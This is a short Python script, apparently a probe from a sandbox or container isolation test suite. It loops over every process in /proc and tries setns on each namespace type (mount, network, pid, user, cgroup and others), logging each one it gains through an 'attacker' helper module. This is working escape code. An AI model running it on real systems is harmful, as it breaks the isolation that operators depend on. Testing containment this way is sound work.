"""Join the namespaces of the init or of any process in sight."""

import os

from attacker import attempt, call, gained

for process in [name for name in os.listdir("/proc") if name.isdigit()]:
    for kind in ("mnt", "net", "pid", "ipc", "uts", "user", "cgroup"):
        with attempt():
            descriptor = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            call("setns", descriptor, 0)
            gained(f"{kind} of process {process}")
